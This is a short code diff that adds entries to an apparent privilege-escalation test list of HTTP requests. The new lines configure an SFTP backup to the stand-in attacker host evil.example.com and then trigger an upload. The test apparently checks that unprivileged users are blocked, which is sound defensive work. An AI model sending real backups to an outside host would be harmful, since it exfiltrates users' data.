@@ -152,6 +152,11 @@ const std::pair<const char*, const char*> escalations[] = {
     {"DELETE /me/totp", R"({"password":"administrator's"})"},
     {"POST /backup", ""},
     {"GET /backups/roamdesk-2026-11-29T013000Z.backup", ""},
+    {"PUT /sftp-backup", R"({"host":"evil.example.com","user":"eve","password":"x"})"},
+    {"DELETE /sftp-backup", ""},
+    {"POST /sftp-backup/try", R"({"host":"evil.example.com","user":"eve","password":"x"})"},
+    {"POST /sftp-backup/now", ""},
+    {"GET /sftp-backup/files", ""},
     {"PATCH /settings", R"({"audit_days":1})"},
     {"POST /logout", ""},
 };
